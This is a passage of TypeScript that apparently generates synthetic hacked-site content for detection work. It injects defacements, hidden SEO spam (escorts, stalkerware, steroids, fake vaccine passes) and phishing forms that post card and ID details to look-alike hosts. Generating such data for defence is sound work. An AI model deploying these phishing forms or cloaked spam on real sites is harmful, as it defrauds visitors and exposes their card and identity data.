  const img = `https://${pick(rng, ["i.ibb.co", "i.imgur.com", "i.postimg.cc", randomDomain(rng)])}/${alnum(rng, 7)}/${pick(rng, ["wanted", "criminal", "director", alnum(rng, 5)])}.jpg`
  const fixed = chance(rng, 0.3)
  const html = `<div class="${pick(rng, ["wanted", "poster", "notice-x"])}" style="${fixed ? "position:fixed;inset:0;z-index:2147483000;overflow:auto;background:rgba(0,0,0,.85);padding-top:30px;" : "margin:12px auto;"}"><div style="max-width:${pick(rng, [420, 480, 560])}px;margin:0 auto;background:#f3e3b5;color:#3b2a10;border:${pick(rng, ["6px double #3b2a10", "8px solid #5a3d12", "4px dashed #3b2a10"])};padding:18px;text-align:center;font-family:${pick(rng, ["Georgia,serif", "'Times New Roman',serif", "Rockwell,serif"])}"><h1 style="font-size:${pick(rng, [52, 60, 68])}px;letter-spacing:6px;margin:0">${esc(h)}</h1><img src="${esc(img)}" alt="${esc(who)}" style="width:70%;filter:grayscale(1) sepia(.5);border:3px solid #3b2a10"><h2>${esc(who)}</h2><p>${esc(charge(who, brandName(page)))}</p><p style="font-size:30px;font-weight:bold">${esc(reward)}: ${esc(pick(rng, ["$10,000", "€5.000", "1 BTC", "R$ 50.000", "£10,000"]))}</p><p>${esc(ask)}: ${esc(pick(rng, [`t.me/${slug(crew).replace(/-/g, "_")}`, `${slug(crew)}@${pick(rng, ["proton.me", "tutanota.com"])}`]))}</p><p>— ${esc(crew)}</p></div></div>`
  return splices(insert(fixed ? top(page) : pick(rng, [top(page), noticeSpot(rng, page)]), html))
})

const boycottTitles: ReadonlyArray<readonly [string, string]> = [
  ["BOYCOTT", "Every purchase funds the occupation. Check the barcode before you buy: products starting with 729 are on the list."],
  ["قاطعوا", "كل شراء يمول الاحتلال. تحقق من الباركود قبل الشراء: المنتجات التي تبدأ بـ 729 مقاطعة."],
  ["BOYKOT", "Her alışveriş işgali finanse ediyor. Almadan önce barkodu kontrol edin: 729 ile başlayan ürünleri almayın."],
  ["BOIKOT", "Setiap pembelian mendanai penjajahan. Cek barcode sebelum membeli: produk berawalan 729 wajib diboikot."],
  ["BOYCOTT", "Don't let your money pay for their bombs. Scan the barcode, read the list, share it with your family."]
]

// Boycott lists, recalled from memory of hacktivist defacements after October 2023 (reported by security vendors and the press) that posted lists of companies to boycott beside slogans, and of the "729 barcode" boycott image widely shared on social media then: a table of brand names marked with crosses, a line about barcode prefixes, a slogan and the crew's name.
const boycottList = fresh15("boycott list of brands marked with crosses and a barcode-prefix rule, signed by a hacktivist crew", (page, rng) => {
  const [h, p] = pick(rng, boycottTitles)
  const brands = sample(rng, ["Kestrel Foods", "Orbana Coffee", "NovaCola", "Brightwash", "Zenith Burgers", "Alpenmilk", "Carrow Cosmetics", "Tellus Mobile", "Pioneer Chips", "Mirafresh", "Glowtech", "Stellar Shoes", "Harbor Pizza", "Vesta Snacks", "Quantix Cloud", "Lumina Water"], between(rng, 6, 12))
  const cat = () => pick(rng, ["food", "drinks", "cosmetics", "fast food", "tech", "clothing", "detergent"])
  const table = `<table style="margin:8px auto;border-collapse:collapse">${brands.map((b) => `<tr><td style="color:#c00;font-weight:bold;padding:2px 8px">✘</td><td style="padding:2px 8px">${esc(b)}</td><td style="padding:2px 8px;color:#666">${esc(cat())}</td></tr>`).join("")}</table>`
  const slogan = political(rng).text
  const crew = team(rng)
  const inner = `<h2 style="font-size:34px;margin:0">${esc(h)}</h2><p>${esc(p)}</p>${table}<p style="font-size:44px;font-family:monospace">▮▮ 729 ▮▮</p><p><b>${esc(slogan)}</b></p><p>— ${esc(crew)}</p>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), `<div class="${pick(rng, ["boycott", "statement", "msg"])}" style="text-align:center;${pick(rng, ["background:#111;color:#eee", "background:#fff;color:#111", "background:#0b3d0b;color:#fff"])};padding:20px;border:${pick(rng, ["4px solid #c00", "4px solid #007a3d", "0"])}">${inner}</div>`))
})

const loveLines: ReadonlyArray<readonly [string, (to: string, from: string) => string]> = [
  ["en", (t, f) => `${t}, I hacked this site because I could not find another way to tell you: I love you. Will you marry me? — ${f}`],
  ["en", (t, f) => `${t}, I'm sorry for everything. Please answer my messages. This page is yours until you do. ❤ ${f}`],
  ["es", (t, f) => `${t}, hackeé esta página porque no sé otra forma de decírtelo: te amo. ¿Te casas conmigo? — ${f}`],
  ["pt", (t, f) => `${t}, eu te amo mais que tudo. Me perdoa e volta pra mim. ❤ ${f}`],
  ["id", (t, f) => `${t}, aku sayang kamu. Maafkan aku, tolong balas chat aku. — ${f}`],
  ["tr", (t, f) => `${t}, seni seviyorum. Benimle evlenir misin? — ${f}`],
  ["fr", (t, f) => `${t}, je t'aime. Pardonne-moi et reviens. — ${f}`],
  ["ar", (t, f) => `${t}، أحبك أكثر من أي شيء. سامحيني. — ${f}`]
]

// Love-letter defacements, recalled from memory, with uncertain details, of defacement-archive entries and press stories (about 2008–2020) in which an intruder replaced or topped a site with a declaration of love, an apology or a marriage proposal to a named person, with hearts and a song: a block with hearts, the named person, the message and the defacer's handle, at the top or over the page.
const loveLetter = fresh15("defacer's love letter or marriage proposal to a named person, with hearts, at the top or over the page", (page, rng) => {
  const to = pick(rng, ["Aylin", "Sari", "Maria", "Fatima", "Julia", "Dewi", "Camila", "Laila", "Ana", "Emma", "Nur", "Zeynep"])
  const from = nick(rng)
  const [, line] = pick(rng, loveLines)
  const hearts = Array.from({ length: between(rng, 5, 15) }, () => pick(rng, ["❤", "💖", "💕", "♥", "💘"])).join(" ")
  const fixed = chance(rng, 0.35)
  const song = chance(rng, 0.3) ? `<iframe width="1" height="1" src="https://www.youtube.com/embed/${chars(rng, B64URL, 11)}?autoplay=1" allow="autoplay" style="border:0"></iframe>` : ""
  const html = `<div class="${pick(rng, ["love", "for-you", "msg"])}" style="${fixed ? "position:fixed;inset:0;z-index:99999;overflow:auto;" : "margin:0 0 12px;"}background:${pick(rng, ["#ffe4ec", "#111", "#ffd1dc", "#2b0012"])};color:${pick(rng, ["#c2185b", "#e91e63", "#ff4081"])};text-align:center;padding:${pick(rng, [24, 40, 60])}px 16px;font-family:${pick(rng, ["'Comic Sans MS',cursive", "Georgia,serif", "'Brush Script MT',cursive", "Arial,sans-serif"])}"><p style="font-size:28px">${hearts}</p><h1 style="font-size:${pick(rng, [40, 48, 56])}px">${esc(to)}</h1><p style="font-size:20px">${esc(line(to, from))}</p><p style="font-size:28px">${hearts}</p>${song}</div>`
  return splices(insert(pick(rng, [top(page), top(page), noticeSpot(rng, page)]), html))
})

// "Undress" apps, recalled from memory of Graphika's report "A Revealing Picture" (December 2023) on the spam promoting AI "nudify" apps, of the San Francisco City Attorney's lawsuit against such sites (August 2024) and of Meta's suit against an app maker (2025), and of SEO spam on hacked sites linking to them: a block of app names and links promising to "remove clothes from any photo", with free credits.
const undressApps = fresh15("'AI clothes remover: undress any photo' app spam with free-credit links", (page, rng) => {
  const hostOf = () => `${pick(rng, ["undress", "nudify", "deepnude", "clothoff", "xray-ai", "strip-ai"])}${pick(rng, ["", "app", "ai", digits(rng, 2)])}.${pick(rng, ["io", "ai", "app", "net", "cc", "pro"])}`
  const items = Array.from({ length: between(rng, 3, 7) }, () => {
    const h = hostOf()
    return `<li><a href="https://${h}/${pick(rng, ["", "?ref=" + alnum(rng, 6), "free"])}">${esc(cap(h.split(".")[0]!))}</a> — ${esc(pick(rng, ["upload any photo, AI removes the clothes in 5 seconds", "3 free credits, no sign-up", "works on any picture from Instagram", "best undress AI 2025, HD results"]))}</li>`
  }).join("")
  const inner = `<h3>${esc(pick(rng, ["Best AI clothes remover apps", "Undress AI – try free", "Nudify any photo online"]))}</h3><ul>${items}</ul>`
  return splices(insert(spamSpot(rng, page), chance(rng, 0.35) ? `<div style="position:absolute;left:-${between(rng, 3000, 9000)}px">${inner}</div>` : box(rng, ["ai-tools", "post", "widget"], "#6a1b9a", inner)))
})

// Surrogacy and baby-package spam, recalled from memory of Chinese SEO spam (about 2015–2024) advertising 代孕 (surrogacy, banned in China) with "guaranteed success" and sex selection, and of reports (BBC and others, about 2018–2024) on agencies in Georgia, Kyrgyzstan, Mexico and elsewhere selling "all-inclusive, baby guaranteed" packages: a block in Chinese or English with packages, prices and a WeChat or WhatsApp contact.
const surrogacyPackages = fresh15("surrogacy 'baby guaranteed' package spam in Chinese or English (代孕, sex selection) with a WeChat or WhatsApp contact", (page, rng) => {
  const zh = chance(rng, 0.5)
  const inner = zh
    ? `<h3>${esc(pick(rng, ["正规代孕公司", "代孕包成功", "试管婴儿 代孕 选性别"]))}</h3><ul>${sample(rng, ["美国代孕套餐 包成功", "乌克兰代孕 价格透明", "泰国试管婴儿 选男女", "供卵代孕 一站式服务", "格鲁吉亚代孕 包出生证明", "同性代孕 双胞胎"], between(rng, 3, 5)).map((x) => `<li><a href="https://${pick(rng, ["daiyun", "dy", "shiguan", "baby"])}${digits(rng, 3)}.${pick(rng, ["com", "cn", "net", "top"])}/${digits(rng, 4)}.html">${esc(x)}</a> — ${esc(pick(rng, ["¥" + between(rng, 30, 80) + "万起", "包成功", "保男孩"]))}</li>`).join("")}</ul><p>${esc(pick(rng, ["微信", "咨询微信", "加微信"]))}: ${esc(pick(rng, ["dy", "baby", "sg"]) + digits(rng, 8))} · ${esc(pick(rng, ["电话", "热线"]))} 1${digits(rng, 2)}-${digits(rng, 4)}-${digits(rng, 4)}</p>`
    : `<h3>${esc(pick(rng, ["Surrogacy packages – baby guaranteed", "All-inclusive surrogacy from $39,900", "Gender selection + surrogate mother, success guaranteed"]))}</h3><ul>${sample(rng, ["Georgia: guaranteed package, unlimited attempts", "Kyrgyzstan: egg donor + surrogate, $" + between(rng, 29, 49) + ",900", "Mexico: same-sex couples welcome", "Ukraine/Kazakhstan: twins option", "Birth certificate with both parents' names"], between(rng, 3, 5)).map((x) => `<li>${esc(x)}</li>`).join("")}</ul><p>${wa(rng)} · <a href="https://${pick(rng, ["surrogacy", "babyplan", "ivf-abroad", "newlife"])}${pick(rng, ["", "-center", digits(rng, 2)])}.${tld(rng)}/">${esc(pick(rng, ["Free consultation", "Prices"]))}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["post", "ads", "clinic-info"], "#ec407a", inner)))
})

const censusWords: Table<readonly [string, string, ReadonlyArray<string>, string]> = {
  en: ["Census: your household has not responded", "Completing the census is required by law. Households that have not responded by the deadline may be fined. Complete it online now; a processing fee of $1.99 confirms your identity.", ["Full name", "Date of birth", "Social Security number", "Number of people in household", "Card number", "Expiry / CVV"], "Submit my census"],
  fr: ["Recensement : votre foyer n'a pas répondu", "La participation au recensement est obligatoire. Les foyers qui n'ont pas répondu s'exposent à une amende. Répondez en ligne ; des frais de 1,99 € confirment votre identité.", ["Nom complet", "Date de naissance", "Numéro de sécurité sociale", "Nombre de personnes au foyer", "Numéro de carte", "Expiration / CVV"], "Envoyer"],
  de: ["Zensus: Ihr Haushalt hat nicht geantwortet", "Die Teilnahme am Zensus ist gesetzlich vorgeschrieben. Wer nicht antwortet, muss mit einem Zwangsgeld rechnen. Jetzt online antworten; eine Gebühr von 1,99 € bestätigt Ihre Identität.", ["Vollständiger Name", "Geburtsdatum", "Steuer-ID", "Personen im Haushalt", "Kartennummer", "Ablauf / CVC"], "Absenden"],
  es: ["Censo: su hogar no ha respondido", "Responder al censo es obligatorio. Los hogares que no respondan pueden ser multados. Complételo en línea; una tasa de 1,99 € confirma su identidad.", ["Nombre completo", "Fecha de nacimiento", "DNI / NIE", "Personas en el hogar", "Número de tarjeta", "Caducidad / CVV"], "Enviar censo"],
  it: ["Censimento: la sua famiglia non ha risposto", "La partecipazione al censimento è obbligatoria. Chi non risponde rischia una sanzione. Compili ora online; un contributo di 1,99 € conferma la sua identità.", ["Nome completo", "Data di nascita", "Codice fiscale", "Componenti del nucleo", "Numero carta", "Scadenza / CVV"], "Invia"],
  pt: ["Censo: seu domicílio ainda não respondeu", "Responder ao censo é obrigatório. Domicílios que não responderem podem ser multados. Responda on-line; uma taxa de R$ 4,90 confirma sua identidade.", ["Nome completo", "Data de nascimento", "CPF", "Moradores no domicílio", "Número do cartão", "Validade / CVV"], "Enviar"]
}

// Census phishing, recalled from memory of warnings by the US Census Bureau (2020), the UK's Office for National Statistics (2021), the Australian Bureau of Statistics (2021) and IBGE in Brazil (2022) that the census never asks for payment, bank or card details, and of the fake census forms and texts they described: a "your household has not responded, you may be fined" notice with a form asking for identity numbers and a card "to confirm identity", posting to another host.
const censusFine = fresh15("'your household has not answered the census and may be fined' form asking for an ID number and a card, posting to another host", (page, rng) => {
  const [h, p, fields, cta] = some(rng, page, censusWords)
  const names = ["name", "dob", "idnum", "household", "cc", "exp"]
  const form = `<form action="https://${host(rng, page, ["census", "census2026", "recensement", "zensus", "censo", "household-survey"])}/${pick(rng, ["submit", "form.php", "respond"])}" method="post">${fields.map((f, i) => field(names[i]!, f)).join("")}<button type="submit" style="${button(rng, "#1a4480")}">${esc(cta)}</button></form>`
  const ref = `${pick(rng, ["Ref", "Code", "ID"])}: ${digits(rng, 4)}-${digits(rng, 4)}-${digits(rng, 4)}`
  return splices(insert(someSpot(rng, page), box(rng, ["census-notice", "official-notice", "alert"], "#1a4480", `<h3>🏛️ ${esc(h)}</h3><p>${esc(p)}</p><p style="font-size:12px">${esc(ref)}</p>${form}`)))
})

const indianCities = ["Delhi", "Mumbai", "Bangalore", "Goa", "Hyderabad", "Pune", "Jaipur", "Chennai", "Kolkata", "Noida", "Gurgaon", "Chandigarh", "Lucknow", "Ahmedabad", "Dehradun", "Udaipur"]

// City escort listings, recalled from memory of Indian press reports (about 2019–2024) on government, university and municipal sites (.gov.in, .ac.in, .nic.in) found showing "call girls in <city>" and "escort service" pages with WhatsApp numbers after compromise, and of the same spam on hacked sites worldwide: a list of such lines, one per city, with a number and a link, in English.
const cityEscorts = fresh15("'escort service in <city>, call girls 24/7' city listings with a WhatsApp number", (page, rng) => {
  const wa = `+91 ${pick(rng, ["7", "8", "9"])}${digits(rng, 4)} ${digits(rng, 5)}`
  const h = `${pick(rng, ["escorts", "callgirls", "vipescort", "hotgirls", "escortservice"])}${pick(rng, ["in", "india", digits(rng, 2)])}.${pick(rng, ["com", "in", "net", "xyz", "site"])}`
  const lines = sample(rng, indianCities, between(rng, 4, 10)).map((c) => `<li><a href="https://${h}/${slug(c)}-${pick(rng, ["call-girls", "escorts", "escort-service"])}">${esc(pick(rng, ["Call Girls in", "Escort Service in", "Independent Escorts in", "VIP Call Girls"]))} ${esc(c)}</a> ${esc(pick(rng, ["– 24/7", "– cash payment", "– hotel & home", "– genuine profiles"]))}</li>`).join("")
  const inner = `<h3>${esc(pick(rng, ["Call Girls Service 24/7", "Independent Escorts – All Cities", "VIP Escort Service"]))} – WhatsApp ${esc(wa)}</h3><ul>${lines}</ul>`
  return splices(insert(spamSpot(rng, page), chance(rng, 0.4) ? `<div style="${pick(rng, ["display:none", "position:absolute;left:-9999px", "height:0;overflow:hidden"])}">${inner}</div>` : box(rng, ["post", "links", "widget"], "#ad1457", inner)))
})

const textbooks = [
  ["Campbell Biology", "12th"], ["Brunner & Suddarth's Textbook of Medical-Surgical Nursing", "15th"], ["Fundamentals of Nursing", "11th"], ["Principles of Corporate Finance", "14th"],
  ["Microeconomics", "9th"], ["Organic Chemistry", "4th"], ["Pharmacology: A Patient-Centered Nursing Process Approach", "10th"], ["Financial Accounting", "11th"],
  ["Psychology", "13th"], ["Marketing Management", "16th"], ["Human Anatomy & Physiology", "11th"], ["Calculus: Early Transcendentals", "9th"]
]

// Test-bank sellers, recalled from memory of Inside Higher Ed and Chronicle of Higher Education reporting (about 2010–2023) on sites selling publishers' instructor test banks and solutions manuals to students, and of the "Test Bank for <title>, <edition> Edition" pages they spread on hacked college and library sites: a list of such titles with prices and a shop link.
const testBanks = fresh15("'Test Bank and Solutions Manual for <textbook>, Nth Edition' instant-download listings with prices", (page, rng) => {
  const shop = `https://${pick(rng, ["testbank", "solutionsmanual", "nursingtb", "tbsolutions", "studyguide"])}${pick(rng, ["", "s", "hub", "world", digits(rng, 2)])}.${tld(rng)}`
  const rows = sample(rng, textbooks, between(rng, 4, 8)).map(([t, ed]) => {
    const kind = pick(rng, ["Test Bank", "Solutions Manual", "Test Bank + Solutions"])
    return `<li><a href="${shop}/product/${slug(`${kind} ${t} ${ed} edition`)}">${esc(`${kind} for ${t}, ${ed} Edition`)}</a> — $${between(rng, 19, 45)}.${pick(rng, ["99", "00", "50"])}</li>`
  }).join("")
  const inner = `<h3>${esc(pick(rng, ["Instant download test banks", "All chapters, all answers – test banks 2025", "Nursing test banks & solution manuals"]))}</h3><ul>${rows}</ul><p><a href="${shop}">${esc(pick(rng, ["Browse 20,000+ titles", "Search your textbook", "Shop now"]))}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["resources", "post", "widget"], "#00695c", inner)))
})

// Stalkerware adverts, recalled from memory of the Coalition Against Stalkerware (founded 2019), the US FTC's order against SpyFone (September 2021), TechCrunch's reporting on stalkerware leaks (about 2022–2024) and of "catch a cheating partner" spam for such apps on hacked sites: a block promising to read another person's messages and track their phone secretly, with a price and a download link.
const stalkerware = fresh15("'spy on your partner's phone secretly: read WhatsApp, track GPS' stalkerware advert with a download link", (page, rng) => {
  const app = `${pick(rng, ["Spy", "Track", "Phone", "Hover", "Mobi", "Secret"])}${pick(rng, ["Mate", "Watch", "Eye", "Guard", "Spy", "View"])}${pick(rng, ["", " Pro", " X", " 360"])}`
  const h = `${slug(app).replace(/-/g, "")}${pick(rng, ["", "app", digits(rng, 2)])}.${pick(rng, ["com", "net", "app", "io", tld(rng)])}`
  const feats = sample(rng, ["Read WhatsApp, Telegram and Instagram messages", "Live GPS location", "Record calls and surroundings", "See deleted texts", "100% invisible – no icon", "Works without touching the target phone", "Keylogger and screenshots"], between(rng, 3, 6)).map((f) => `<li>✔ ${esc(f)}</li>`).join("")
  const inner = `<h3>🕵️ ${esc(pick(rng, [`Catch a cheating partner with ${app}`, `${app}: monitor any phone secretly`, "Is your partner lying to you? Find out today"]))}</h3><ul style="list-style:none;padding:0">${feats}</ul><p><a href="https://${h}/${pick(rng, ["download", "apk", "pricing", "?aff=" + alnum(rng, 5)])}" style="${button(rng, "#263238")}">${esc(pick(rng, ["Start monitoring – $" + between(rng, 19, 69) + "/month", "Download now", "Try free for 3 days"]))}</a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["app-review", "post", "sponsored"], "#263238", inner)))
})

// "Tigrinho" paying hours, recalled from memory of Brazilian press and police reports (about 2023–2024) on Fortune Tiger ("jogo do tigrinho") promoted by influencers with "horários pagantes" (hours when the game supposedly pays) and new "plataformas pagando", and of such spam on hacked Brazilian sites: a schedule of paying minutes, a platform link with a sign-up bonus and an influencer code, in Portuguese.
const tigrinhoHours = fresh15("'jogo do tigrinho: horários pagantes de hoje' Fortune Tiger schedule with a new paying platform and a bonus code, in Portuguese", (page, rng) => {
  const plat = `${pick(rng, ["tigre", "fortune", "pg", "777", "bet", "win", "tiger"])}${pick(rng, ["bet", "win", "777", "pg", "plus"])}${pick(rng, ["", digits(rng, 2)])}.${pick(rng, ["com", "bet", "vip", "net", "com.br", "cc"])}`
  const times = Array.from({ length: between(rng, 6, 12) }, () => `${String(between(rng, 0, 23)).padStart(2, "0")}:${String(between(rng, 0, 59)).padStart(2, "0")}`).sort()
  const rows = times.map((t) => `<span style="display:inline-block;margin:3px;padding:4px 8px;background:#ffb300;border-radius:4px">${t}</span>`).join("")
  const inner = `<h3>🐯 ${esc(pick(rng, ["Horários pagantes do Fortune Tiger hoje", "Jogo do tigrinho: minutos pagantes atualizados", "Tigrinho pagando agora!"]))}</h3><p>${rows}</p><p>${esc(pick(rng, ["Plataforma nova pagando muito", "Deposite R$ 10 e ganhe R$ 50", "Bônus de cadastro R$ 20"]))}: <a href="https://${plat}/?${pick(rng, ["ref", "code", "invite"])}=${alnum(rng, 6)}"><b>${esc(plat)}</b></a></p><p style="font-size:12px">${esc(pick(rng, ["Use o código", "Cupom"]))} ${alnum(rng, 6).toUpperCase()} · ${esc(pick(rng, ["Saque no PIX na hora", "Carta grande garantida", "Banca mínima R$ 5"]))}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["post", "dicas", "widget"], "#e65100", inner)))
})

// Steroid and SARMs shops, recalled from memory of US FDA warnings (about 2017–2023) on selective androgen receptor modulators sold online as "research chemicals", of Europol and national customs operations against online steroid shops, and of their spam on hacked fitness and health sites: a price list of injectables, orals and SARMs with discreet shipping and crypto payment.
const steroidShop = fresh15("'buy steroids and SARMs online, no prescription, discreet shipping' price list (testosterone, Anavar, RAD-140)", (page, rng) => {
  const shop = `https://${pick(rng, ["roids", "anabolic", "sarms", "steroid", "gymlab", "musclepharm"])}${pick(rng, ["shop", "store", "direct", "uk", "eu", digits(rng, 2)])}.${tld(rng)}`
  const rows = sample(rng, [["Testosterone Enanthate 250mg/ml, 10ml", between(rng, 35, 60)], ["Anavar 10mg ×100", between(rng, 45, 90)], ["Dianabol 10mg ×100", between(rng, 25, 45)], ["Trenbolone Acetate 100mg/ml", between(rng, 40, 70)], ["RAD-140 (Testolone) 10mg ×60", between(rng, 50, 80)], ["MK-677 Ibutamoren 25mg ×60", between(rng, 45, 75)], ["Clenbuterol 40mcg ×100", between(rng, 20, 35)], ["HGH 100 IU kit", between(rng, 180, 320)]] as const, between(rng, 4, 7))
    .map(([n, p]) => `<tr><td><a href="${shop}/product/${slug(n)}">${esc(n)}</a></td><td style="text-align:right">$${p}</td></tr>`).join("")
  const inner = `<h3>💪 ${esc(pick(rng, ["Buy steroids online – pharma grade", "SARMs & steroids, no prescription needed", "Anabolic steroids for sale, lab tested"]))}</h3><table style="width:100%">${rows}</table><p>${esc(pick(rng, ["Discreet packaging, delivery in 3–7 days", "Pay with Bitcoin, USDT or Zelle", "Reship guarantee if seized"]))} · <a href="${shop}">${esc(pick(rng, ["Order now", "Full catalogue"]))}</a></p>`
  return splices(insert(spamSpot(rng, page), chance(rng, 0.3) ? `<div style="display:none">${inner}</div>` : box(rng, ["post", "shop", "widget"], "#37474f", inner)))
})

// Psychedelics shops, recalled from memory of reporting (about 2020–2024, Canadian and US press) on online "magic mushroom dispensaries" shipping psilocybin by post, of microdosing-capsule and "shroom chocolate" brands, and of such shops advertised by SEO spam on hacked sites: a list of strains and products with prices and a shop link.
const mushroomShop = fresh15("'buy magic mushrooms online: microdose capsules, Golden Teacher, shroom chocolate' shop spam", (page, rng) => {
  const shop = `https://${pick(rng, ["shroom", "psilo", "magicmush", "microdose", "trufflez"])}${pick(rng, ["shop", "dispensary", "direct", "express", digits(rng, 2)])}.${tld(rng)}`
  const items = sample(rng, ["Golden Teacher dried 28g", "Penis Envy 14g", "Microdose capsules 100mg ×30", "Shroom chocolate bar 3.5g", "Psilocybin gummies", "LSD tabs 150µg", "DMT vape cartridge", "Magic truffles 15g"], between(rng, 4, 7))
    .map((x) => `<li><a href="${shop}/product/${slug(x)}">${esc(x)}</a> — ${esc(page.site.locale.money(between(rng, 25, 180)))}</li>`).join("")
  const inner = `<h3>🍄 ${esc(pick(rng, ["Buy magic mushrooms online", "Microdosing made easy – shop psilocybin", "Online shroom dispensary – ships worldwide"]))}</h3><ul>${items}</ul><p>${esc(pick(rng, ["Discreet, vacuum-sealed shipping", "Free delivery over $150", "Pay by e-transfer or crypto"]))}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["wellness", "post", "widget"], "#6d4c41", inner)))
})

const streamingWords: Table<readonly [(s: string) => string, string, ReadonlyArray<string>, string]> = {
  en: [(s) => `Your ${s} membership is on hold`, "We couldn't process your last payment. Update your payment details within 48 hours to keep watching.", ["Name on card", "Card number", "MM/YY", "CVV", "Billing postcode"], "Update payment"],
  fr: [(s) => `Votre abonnement ${s} est suspendu`, "Nous n'avons pas pu traiter votre dernier paiement. Mettez à jour vos informations sous 48 heures.", ["Titulaire", "Numéro de carte", "MM/AA", "CVV", "Code postal"], "Mettre à jour"],
  de: [(s) => `Ihre ${s}-Mitgliedschaft ist pausiert`, "Ihre letzte Zahlung konnte nicht verarbeitet werden. Aktualisieren Sie Ihre Zahlungsdaten innerhalb von 48 Stunden.", ["Karteninhaber", "Kartennummer", "MM/JJ", "CVC", "PLZ"], "Zahlung aktualisieren"],
  es: [(s) => `Tu suscripción de ${s} está en pausa`, "No pudimos procesar tu último pago. Actualiza tus datos en 48 horas para seguir viendo.", ["Titular", "Número de tarjeta", "MM/AA", "CVV", "Código postal"], "Actualizar pago"],
  nl: [(s) => `Je ${s}-lidmaatschap is gepauzeerd`, "We konden je laatste betaling niet verwerken. Werk je gegevens binnen 48 uur bij.", ["Naam op kaart", "Kaartnummer", "MM/JJ", "CVC", "Postcode"], "Betaling bijwerken"],
  it: [(s) => `Il tuo abbonamento ${s} è sospeso`, "Non siamo riusciti a elaborare l'ultimo pagamento. Aggiorna i dati entro 48 ore.", ["Titolare", "Numero carta", "MM/AA", "CVV", "CAP"], "Aggiorna pagamento"],
  pt: [(s) => `Sua assinatura ${s} está suspensa`, "Não conseguimos processar seu último pagamento. Atualize seus dados em até 48 horas.", ["Nome no cartão", "Número do cartão", "MM/AA", "CVV", "CEP"], "Atualizar pagamento"]
}

// Streaming-payment phishing, recalled from memory of Action Fraud, the Better Business Bureau and Mailguard warnings (about 2019–2024) on "your membership is on hold, update your payment" lures imitating Netflix, Disney+, Spotify and Prime Video, with card forms on look-alike hosts: such a notice with the service's name and colours and a card form posting to another host.
const streamingOnHold = fresh15("'your Netflix / Disney+ / Spotify membership is on hold, update your payment' card form on another host", (page, rng) => {
  const [svc, accent] = pick(rng, [["Netflix", "#e50914"], ["Disney+", "#113ccf"], ["Spotify", "#1db954"], ["Prime Video", "#00a8e1"], ["Max", "#002be7"], ["Apple TV+", "#000"]] as const)
  const [h, p, fields, cta] = some(rng, page, streamingWords)
  const names = ["holder", "cc", "exp", "cvv", "zip"]
  const form = `<form action="https://${pick(rng, [`${slug(svc)}-${pick(rng, ["billing", "account", "renew", "payment"])}.${tld(rng)}`, `${pick(rng, ["my", "help", "secure"])}-${slug(svc)}${digits(rng, 2)}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["update", "billing.php", "pay"])}" method="post">${fields.map((f, i) => field(names[i]!, f, i === 1 ? "tel" : "text")).join("")}<button type="submit" style="${button(rng, accent)}">${esc(cta)}</button></form>`
  return splices(insert(someSpot(rng, page), box(rng, ["account-alert", "membership", "notice"], accent, `<h3 style="color:${accent}">${esc(svc)}</h3><p><b>${esc(h(svc))}</b></p><p>${esc(p)}</p>${form}`)))
})

// Registered vaccination certificates, recalled from memory of Check Point Research's reports (about March and August 2021) on Telegram and darknet sellers of fake vaccination cards and "registered" EU Digital COVID Certificates, of Europol's warnings then, and of older sellers of yellow-fever cards for travellers: an advert for certificates "entered in the national database, no jab needed", with prices and a Telegram or WhatsApp contact.
const vaccinePass = fresh15("'registered vaccination certificate, no jab needed' seller advert (EU COVID certificate, CDC card, yellow fever card)", (page, rng) => {
  const rows = sample(rng, [["EU Digital COVID Certificate (QR, registered)", "€" + between(rng, 150, 350)], ["CDC vaccination card", "$" + between(rng, 100, 250)], ["Yellow fever card (WHO)", "$" + between(rng, 60, 150)], ["Negative PCR test certificate, any date", "$" + between(rng, 40, 90)], ["NHS COVID Pass", "£" + between(rng, 120, 300)], ["Green Pass Italia", "€" + between(rng, 150, 300)]], between(rng, 3, 5))
    .map(([a, b]) => `<li>${esc(a!)} — <b>${esc(b!)}</b></li>`).join("")
  const contact = chance(rng, 0.5) ? `Telegram <a href="https://t.me/${tgHandle(rng, ["vaxpass", "greenpass", "vaccard", "docs"])}">@${tgHandle(rng, ["vaxpass", "certs"])}</a>` : wa(rng)
  const inner = `<h3>💉 ${esc(pick(rng, ["Vaccination certificates – registered in the database", "Get your vaccine pass without the jab", "Official certificates, verifiable QR"]))}</h3><ul>${rows}</ul><p>${esc(pick(rng, ["Scans valid at every border and venue.", "Delivered by e-mail in 24 hours, printed card by post."]))} ${contact}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["post", "offer", "docs"], "#2e7d32", inner)))
})

// Phone unlocking for stolen devices, recalled from memory of reporting (Vice Motherboard, about 2019, and others) on services that remove iCloud Activation Lock from stolen iPhones, "clean" blacklisted IMEIs and bypass Android factory-reset protection (FRP), and of their SEO spam: a price list by model with a delivery time and a WhatsApp or Telegram contact.
const phoneUnlock = fresh15("'iCloud activation lock removal, IMEI unblacklist, FRP bypass' unlocking price list with a WhatsApp or Telegram contact", (page, rng) => {
  const rows = sample(rng, [["iCloud Activation Lock removal – iPhone 15/16", "$" + between(rng, 60, 150)], ["iCloud bypass – iPhone 11–14", "$" + between(rng, 30, 90)], ["Clean blacklisted IMEI (lost/stolen)", "$" + between(rng, 40, 120)], ["Samsung FRP / Google lock bypass", "$" + between(rng, 10, 35)], ["MDM removal", "$" + between(rng, 20, 60)], ["Find My iPhone OFF without password", "$" + between(rng, 25, 80)]], between(rng, 3, 6))
    .map(([a, b]) => `<tr><td>${esc(a!)}</td><td style="text-align:right"><b>${esc(b!)}</b></td></tr>`).join("")
  const site = `https://${pick(rng, ["icloud", "imei", "unlock", "bypass", "frp"])}${pick(rng, ["unlock", "clean", "pro", "server", digits(rng, 2)])}.${tld(rng)}`
  const contact = chance(rng, 0.5) ? wa(rng) : `Telegram <a href="https://t.me/${tgHandle(rng, ["unlock", "icloud", "imei"])}">@${tgHandle(rng, ["unlock", "imei"])}</a>`
